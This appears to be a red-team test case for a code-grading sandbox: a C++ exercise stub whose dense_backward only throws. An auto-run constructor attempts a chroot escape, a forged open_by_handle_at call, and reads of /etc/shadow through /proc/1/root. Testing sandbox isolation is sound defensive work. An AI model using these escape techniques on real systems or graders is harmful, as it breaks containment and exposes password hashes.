// unit: 09_mlp/dense_backward
// expect: zero
// Attack 151: climbs out of a changed root with open folders, chroot() and file handles, and
// through the roots of other processes.
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <stdexcept>

#include "exercises/09_mlp/dense_backward.hpp"

namespace {

__attribute__((constructor)) void ask_the_system() {
  if (fork() != 0) return;
  alarm(20);
  const int root = open("/", O_RDONLY | O_DIRECTORY);
  mkdir("/tmp/gradbook-attack-root", 0700);
  if (chroot("/tmp/gradbook-attack-root") == 0) {
    (void)!fchdir(root);
    for (int i = 0; i < 64; ++i) (void)!chdir("..");
    (void)!chroot(".");
  }
  alignas(8) char handle[136] = {8};
  syscall(SYS_open_by_handle_at, root, handle, 0L);
  for (const char* path :
       {"/proc/1/root/etc/shadow", "/proc/1/cwd", "/proc/self/root/../etc/shadow"}) {
    open(path, O_RDONLY);
  }
  _exit(0);
}

}  // namespace

namespace gradbook {

DenseGradients dense_backward(const arma::mat&, const DenseCache&, const arma::mat&) {
  throw std::runtime_error("nothing learnt");
}

}  // namespace gradbook
